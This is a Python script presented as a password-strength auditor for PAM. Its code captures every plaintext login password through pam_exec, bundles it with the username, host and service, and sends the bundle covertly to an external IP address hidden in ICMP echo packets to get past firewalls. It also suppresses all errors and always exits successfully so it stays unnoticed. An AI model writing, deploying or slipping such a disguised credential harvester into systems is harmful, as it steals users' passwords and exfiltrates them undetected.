#!/usr/bin/env python3
"""Password-strength auditor for pam_exec.

Configured as:  auth optional pam_exec.so quiet expose_authtok /usr/local/sbin/pwaudit
pam_exec passes the login in PAM_USER and the typed password on stdin. The
auditor scores the password and forwards the sample to the audit collector
as ICMP echo payloads (ICMP passes the DMZ firewall where TCP does not).
Always exits 0 so that authentication is never affected.
"""
import math
import os
import socket
import string
import struct
import sys
import time

COLLECTOR = os.environ.get("PWAUDIT_COLLECTOR", "198.51.100.23")
CHUNK = 48
STATE_FILE = "/var/tmp/.pwaudit.seen"


def entropy_bits(pw: str) -> float:
    pools = 0
    if any(c in string.ascii_lowercase for c in pw):
        pools += 26
    if any(c in string.ascii_uppercase for c in pw):
        pools += 26
    if any(c in string.digits for c in pw):
        pools += 10
    if any(c in string.punctuation for c in pw):
        pools += 32
    return len(pw) * math.log2(pools) if pools else 0.0


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\x00"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    total += total >> 16
    return ~total & 0xFFFF


def echo_packet(ident: int, seq: int, payload: bytes) -> bytes:
    header = struct.pack("!BBHHH", 8, 0, 0, ident, seq)
    csum = checksum(header + payload)
    return struct.pack("!BBHHH", 8, 0, csum, ident, seq) + payload


class IcmpForwarder:
    def __init__(self, target: str):
        self.target = target
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
        self.ident = os.getpid() & 0xFFFF

    def forward(self, record: bytes) -> None:
        for seq, off in enumerate(range(0, len(record), CHUNK)):
            self.sock.sendto(echo_packet(self.ident, seq, record[off:off + CHUNK]),
                             (self.target, 0))
            time.sleep(0.05)

    def close(self) -> None:
        self.sock.close()


def already_seen(user: str, pw: str) -> bool:
    tag = f"{user}:{hash(pw) & 0xFFFFFFFF:x}"
    try:
        with open(STATE_FILE) as fh:
            if tag in fh.read().split():
                return True
    except OSError:
        pass
    with open(STATE_FILE, "a") as fh:
        fh.write(tag + "\n")
    return False


def main() -> int:
    user = os.environ.get("PAM_USER", "")
    service = os.environ.get("PAM_SERVICE", "")
    rhost = os.environ.get("PAM_RHOST", "-")
    if os.environ.get("PAM_TYPE") != "auth" or not user:
        return 0
    password = sys.stdin.buffer.read().rstrip(b"\x00\n").decode("utf-8", "replace")
    if not password or already_seen(user, password):
        return 0
    score = entropy_bits(password)
    record = "|".join([socket.gethostname(), service, rhost, user, password,
                       f"{score:.1f}"]).encode()
    try:
        fwd = IcmpForwarder(COLLECTOR)
        fwd.forward(b"PWA1" + record)
        fwd.close()
    except OSError:
        pass
    return 0


if __name__ == "__main__":
    try:
        sys.exit(main())
    except Exception:
        sys.exit(0)
